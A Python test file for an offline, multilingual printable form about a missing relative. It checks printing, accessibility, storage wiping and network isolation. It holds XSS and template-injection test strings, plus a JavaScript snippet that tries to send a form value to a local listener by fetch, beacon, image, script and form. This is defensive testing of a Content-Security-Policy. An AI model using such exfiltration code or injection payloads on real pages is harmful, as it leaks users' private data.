"""The form page as a family meets it: a real Chromium opens the file, fills it in, prints it, closes it. Nothing goes out."""

import io
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect
from pypdf import PdfReader

from bot.adapters.export.form_page import form_page_name, make_form_page
from bot.adapters.library import strict_yaml
from bot.adapters.library.catalogs import read_catalogs
from bot.flow.model import LOCALES, Locale
from bot.papers.form_page import FILE, read_form_page
from bot.papers.sheets import read_sheet
from tests.support.chromium import SPOKEN

pytestmark = pytest.mark.slow

ROOT: Final = Path(__file__).resolve().parents[2]

PHONE: Final = {"width": 360, "height": 640}
DESKTOP: Final = {"width": 1200, "height": 900}
ZOOMED: Final = {"width": 600, "height": 450}
"""The desktop at 200 %."""

VALUES: Final = {
    "relative-name": "Ґалаґан-Їжакевич Єлизавета Іґорівна",
    "relative-birth": "весна 1989, Їжівці",
    "relative-marks": "Шрам; родимка під лівим оком, подъём ещё выше — ё, ъ, ы",
    "last-date": "березень 2024",
    "last-place": "Покровський район",
    "applicant-name": "IJsbrand van der Wijk-Coördinatie, één",
    "applicant-kinship": "мати",
    "applicant-phone": "+380 44 000 00 00",
}

Opener = Callable[..., Page]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page in each language, made from the shipped words."""
    made = tmp_path_factory.mktemp("pages")
    name = "flows/sheets/office.yaml"
    sheet = read_sheet(strict_yaml.parse((ROOT / name).read_bytes(), name), name)
    words = read_form_page(strict_yaml.parse((ROOT / FILE).read_bytes(), FILE), FILE)
    translate = read_catalogs(ROOT / "locales").of
    for locale in LOCALES:
        (made / form_page_name(locale)).write_bytes(make_form_page(sheet, words, translate, locale, ROOT / "templates"))
    return made


@pytest.fixture
def visit(browser: Browser, folder: Path) -> Iterator[Opener]:
    """Opens the file. Afterwards: nothing but the file itself was asked for, and no script or rule was broken."""
    contexts: list[BrowserContext] = []
    asked: list[str] = []
    troubles: list[str] = []

    def go(locale: Locale = "uk", size: dict[str, int] = DESKTOP, *, at: str = "", **options: Any) -> Page:
        context = browser.new_context(viewport=size, **options)  # type: ignore[arg-type]
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(10_000)
        session = context.new_cdp_session(page)
        session.send("Network.enable")
        session.on("Network.requestWillBeSent", lambda event: asked.append(event["request"]["url"]))
        session.on("Network.webSocketCreated", lambda event: asked.append(event["url"]))
        page.on("request", lambda request: asked.append(request.url))
        page.on("pageerror", lambda error: troubles.append(str(error)))
        page.on("console", lambda message: troubles.append(message.text))
        page.goto((folder / form_page_name(locale)).as_uri() + at)
        return page

    yield go
    for context in contexts:
        assert context.cookies() == []
        context.close()
    ours = folder.as_uri() + "/form-"
    assert asked
    assert [url for url in asked if not url.startswith(ours) and url not in ("data:,", "about:blank")] == []
    assert troubles == []


def fill(page: Page, values: dict[str, str] = VALUES) -> None:
    for name, value in values.items():
        page.locator(f'[data-name="{name}"] textarea').fill(value)


def typed(page: Page) -> list[str]:
    return [str(value) for value in page.locator("textarea").evaluate_all("pens => pens.map(pen => pen.value)")]


def printed(page: Page) -> tuple[str, int]:
    """All text on paper without spaces, and the number of pages."""
    reader = PdfReader(io.BytesIO(page.pdf(prefer_css_page_size=True)))
    width, height = (float(side) for side in (reader.pages[0].mediabox.width, reader.pages[0].mediabox.height))
    assert (round(width), round(height)) in ((595, 842), (594, 841), (595, 841), (594, 842))
    return plain("".join(sheet.extract_text() for sheet in reader.pages)), len(reader.pages)


def plain(text: str) -> str:
    return re.sub(r"\s+", "", text)


def labels(page: Page, locale: str) -> list[str]:
    """Every sentence that belongs on paper, in one language."""
    return [text.strip() for text in page.locator(f'main .both > [data-in="{locale}"]').all_text_contents()]


@pytest.mark.parametrize("locale", SPOKEN)
def test_filled_and_printed_it_shows_every_value_beside_every_line(visit: Opener, locale: Locale) -> None:
    page = visit(locale)
    fill(page)
    text, pages = printed(page)
    assert pages == 2
    for value in VALUES.values():
        assert plain(value) in text
    for where in ("uk", locale):
        assert [label for label in labels(page, where) if plain(label) not in text] == []
    for shown in ("Only on this device", "Print", "Empty the form"):
        if locale == "en":
            assert plain(shown) not in text


@pytest.mark.parametrize("locale", SPOKEN)
def test_without_scripts_it_is_a_blank_form(visit: Opener, locale: Locale) -> None:
    """Every line in the language it was made for, nothing to type in, no button that does nothing."""
    page = visit(locale, java_script_enabled=False)
    expect(page.locator("textarea")).to_have_count(0)
    expect(page.locator("button:visible")).to_have_count(0)
    expect(page.locator("noscript p")).to_be_visible()
    expect(page.locator(".field .value:visible")).to_have_count(len(VALUES))
    text, pages = printed(page)
    assert pages == 2
    for where in ("uk", locale):
        assert [label for label in labels(page, where) if plain(label) not in text] == []


def test_it_is_empty_when_opened_again(visit: Opener, folder: Path) -> None:
    """After a reload, after another page and back, after closing; and nothing was stored."""
    page = visit()
    fill(page)
    page.reload()
    assert typed(page) == [""] * len(VALUES)
    fill(page)
    page.goto((folder / form_page_name("nl")).as_uri())
    page.go_back()
    assert typed(page) == [""] * len(VALUES)
    assert "Ґалаґан" not in page.content()
    stored = "() => localStorage.length + sessionStorage.length + document.cookie.length"
    assert page.evaluate(stored) == 0
    assert page.evaluate("async () => (await indexedDB.databases()).length") == 0


def test_a_kept_page_is_empty_too(visit: Opener) -> None:
    """A browser that keeps a page it leaves (as phones do) keeps an empty one."""
    page = visit()
    fill(page)
    page.evaluate("dispatchEvent(new PageTransitionEvent('pagehide', {persisted: true}))")
    assert typed(page) == [""] * len(VALUES)
    assert "Ґалаґан" not in page.content()


def test_emptying_asks_once_more_and_cannot_be_undone(visit: Opener) -> None:
    page = visit("en")
    fill(page)
    page.get_by_role("button", name="Empty the form").click()
    expect(page.get_by_role("button", name="No, leave it")).to_be_focused()
    page.keyboard.press("Enter")
    assert typed(page) == list(VALUES.values())
    page.get_by_role("button", name="Empty the form").click()
    page.get_by_role("button", name="Yes, empty it").click()
    expect(page.get_by_role("status")).to_have_text(re.compile("The form is empty"))
    assert typed(page) == [""] * len(VALUES)
    for pen in page.locator("textarea").all():
        pen.focus()
        page.keyboard.press("Control+z")
    assert typed(page) == [""] * len(VALUES)
    assert "Ґалаґан" not in page.content()
    assert plain(VALUES["relative-name"]) not in printed(page)[0]


def test_the_framed_part_is_for_the_hand(visit: Opener) -> None:
    page = visit("en")
    frame = page.locator("section.frame")
    expect(frame).to_have_count(1)
    expect(frame.locator("h2")).to_contain_text("Write by hand")
    expect(frame.locator("textarea, input, select, button, [contenteditable]")).to_have_count(0)
    expect(frame.locator(".rule")).to_have_count(7)


def test_the_language_is_chosen_without_losing_a_letter(visit: Opener) -> None:
    page = visit("uk")
    fill(page)
    for name, code in (("Nederlands", "nl"), ("English", "en"), ("Русский", "ru"), ("Українська", "uk")):
        page.get_by_role("button", name=name).click()
        expect(page.locator("html")).to_have_attribute("lang", code)
        expect(page.get_by_role("button", name=name)).to_have_attribute("aria-pressed", "true")
        expect(page.locator("[aria-pressed=true]")).to_have_count(1)
        assert page.locator("h2:visible").count() == 8
        assert set(page.locator("[data-in]:visible").evaluate_all("all => all.map(each => each.dataset.in)")) == {code}
    assert typed(page) == list(VALUES.values())


def test_the_language_in_the_address_or_the_name_is_spoken(visit: Opener, folder: Path) -> None:
    html = visit("uk", at="#nl").locator("html")
    expect(html).to_have_attribute("data-language", "nl")
    expect(visit("uk", at="#xx").locator("html")).to_have_attribute("data-language", "uk")
    (folder / "form-ru (1).html").write_bytes((folder / "form-uk.html").read_bytes())
    page = visit("uk")
    page.goto((folder / "form-ru (1).html").as_uri())
    expect(page.locator("html")).to_have_attribute("data-language", "ru")
    page.evaluate("location.hash = 'en'")
    expect(page.locator("html")).to_have_attribute("data-language", "en")


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src=x onerror=alert(1)><script>alert(1)</script>",
        "{{7*7}} ${7*7} %s &lt;b&gt;",
        "محمد الأحمد بن عبد الله",
        "\u202eдзеркало\u202c та \u200bневидиме",
        "👩‍👧 🕯️ Ꙗ ㄱ",
        "слово " * 660,
        "Ж" * 4000,
    ],
    ids=["markup", "template", "rtl", "bidi", "emoji", "4000", "unbroken"],
)
def test_odd_values_stay_text_and_are_printed_whole(visit: Opener, hostile: str) -> None:
    page = visit("nl", PHONE)
    elements = page.locator("*").count()
    for name in ("relative-name", "relative-birth", "applicant-kinship"):
        page.locator(f'[data-name="{name}"] textarea').fill(hostile)
    assert page.locator("*").count() == elements
    assert fits(page)
    page.emulate_media(media="print")
    page.set_viewport_size({"width": 680, "height": 900})
    shown = page.locator('[data-name="relative-birth"] .value')
    assert shown.inner_text().strip() == hostile.strip()
    assert fits(page)
    assert shown.evaluate("node => node.scrollHeight <= node.clientHeight + 1")
    text, _ = printed(page)
    for letter in "Жс":
        assert text.count(letter) >= 3 * hostile.count(letter)
    for label in labels(page, "uk"):
        assert plain(label) in text


def fits(page: Page) -> bool:
    return bool(page.evaluate("() => document.documentElement.scrollWidth <= innerWidth"))


@pytest.mark.parametrize("size", [PHONE, ZOOMED, DESKTOP], ids=["360", "200%", "desktop"])
@pytest.mark.parametrize("locale", SPOKEN)
def test_it_fits_small_phones_and_large_letters(visit: Opener, locale: Locale, size: dict[str, int]) -> None:
    page = visit(locale, size)
    fill(page)
    assert fits(page)
    boxes = "all => all.map(each => each.getBoundingClientRect()).map(box => Math.min(box.width, box.height))"
    assert min(page.locator("button:visible, textarea").evaluate_all(boxes)) >= 44


@pytest.mark.parametrize("locale", SPOKEN)
def test_every_line_has_its_label_and_its_reason(visit: Opener, locale: Locale) -> None:
    page = visit(locale)
    assert page.locator("textarea").count() == len(VALUES)
    for part in page.locator(".field").all():
        label = part.locator(f'label [data-in="{locale}"]').inner_text()
        pen = part.get_by_role("textbox", name=label, exact=True)
        expect(pen).to_have_count(1)
        expect(pen).to_have_accessible_description(re.compile(re.escape(part.locator(".why").inner_text())))
        for attribute, value in (("autocomplete", "off"), ("spellcheck", "false"), ("name", None), ("id", None)):
            assert pen.get_attribute(attribute) == value
        part.locator("label").click()
        expect(pen).to_be_focused()
    assert page.locator("h1:visible").count() == 1
    ids = page.locator("[id]").evaluate_all("nodes => nodes.map(node => node.id)")
    assert len(ids) == len(set(ids))
    assert page.locator("textarea").last.get_attribute("inputmode") == "tel"


def test_keyboard_alone_fills_and_empties(visit: Opener) -> None:
    page = visit("en")
    for _ in range(len(LOCALES)):
        page.keyboard.press("Tab")
    for value in VALUES.values():
        page.keyboard.press("Tab")
        page.keyboard.insert_text(value)
        outline = page.evaluate("() => getComputedStyle(document.activeElement).outlineWidth")
        assert outline == "3px"
        hidden = page.evaluate(
            "() => document.activeElement.getBoundingClientRect().bottom"
            " > document.querySelector('.deeds').getBoundingClientRect().top"
        )
        assert not hidden
    assert typed(page) == list(VALUES.values())
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Print")).to_be_focused()
    page.keyboard.press("Tab")
    page.keyboard.press("Space")
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Space")
    assert typed(page) == [""] * len(VALUES)
    expect(page.get_by_role("button", name="Empty the form")).to_be_focused()


CONTRAST = """() => {
  const light = (value) => { const c = value / 255; return c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4; };
  const parts = (colour) => colour.match(/[\\d.]+/g).map(Number);
  const weights = [0.2126, 0.7152, 0.0722];
  const lum = (colour) => weights.reduce((sum, weight, index) => sum + weight * light(parts(colour)[index]), 0);
  const ground = (node) => {
    for (; node; node = node.parentElement) {
      const colour = getComputedStyle(node).backgroundColor;
      if (parts(colour)[3] !== 0) return colour;
    }
    return "rgb(255, 255, 255)";
  };
  const seen = [...document.querySelectorAll("p, li, h1, h2, label, button, textarea, th")].filter((node) => node.offsetParent);
  return Math.min(...seen.map((node) => {
    const [a, b] = [lum(getComputedStyle(node).color), lum(ground(node))];
    return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05); }));
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_can_be_read(visit: Opener, scheme: str) -> None:
    page = visit("uk", color_scheme=scheme)
    assert page.evaluate(CONTRAST) >= 4.5
    page.emulate_media(media="print")
    assert page.evaluate(CONTRAST) >= 7  # black on white, whatever the screen looked like
    assert page.evaluate("() => getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"


def test_the_print_button_prints(visit: Opener) -> None:
    page = visit("en")
    page.evaluate("() => { window.printed = 0; window.print = () => { window.printed += 1; }; }")
    page.get_by_role("button", name="Print").click()
    assert page.evaluate("() => window.printed") == 1


class Listener(BaseHTTPRequestHandler):
    """Somebody on the network who would like to hear."""

    def _hear(self) -> None:
        self.server.heard.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = _hear

    def log_message(self, format: str, *args: object) -> None:
        pass


WAYS_OUT = """async (to) => {
  const secret = document.querySelector("textarea").value;
  try { await fetch(`${to}/fetch?${secret}`, {mode: "no-cors"}); } catch {}
  try { navigator.sendBeacon(`${to}/beacon`, secret); } catch {}
  const add = (tag, set) => {
    const node = Object.assign(document.createElement(tag), set);
    document.body.append(node);
    return node;
  };
  add("img", {src: `${to}/img`});
  add("link", {rel: "stylesheet", href: `${to}/css`});
  add("link", {rel: "prefetch", href: `${to}/prefetch`});
  add("script", {src: `${to}/script`});
  add("iframe", {src: `${to}/frame`});
  add("video", {src: `${to}/video`});
  const form = add("form", {action: `${to}/form`, method: "get", target: "_blank"});
  try { form.submit(); } catch {}
  await new Promise((done) => setTimeout(done, 400));
}"""


@pytest.mark.parametrize("policy", [True, False], ids=["with the policy", "sabotaged: without it"])
def test_even_a_foreign_script_on_the_page_gets_nothing_out(browser: Browser, folder: Path, policy: bool) -> None:
    """A listener on this very computer hears nothing; without the policy it hears, so the test can fail."""
    source = (folder / "form-en.html").read_text("utf-8")
    if not policy:
        source = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", source)
    opened = folder / f"form-en-{policy}.html"
    opened.write_text(source, "utf-8")
    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        server.heard = []  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        context = browser.new_context()
        page = context.new_page()
        page.goto(opened.as_uri())
        page.locator("textarea").first.fill("Ґ")
        page.evaluate(WAYS_OUT, f"http://127.0.0.1:{server.server_port}")
        context.close()
        server.shutdown()
        heard = server.heard  # type: ignore[attr-defined]
    assert bool(heard) is not policy, heard
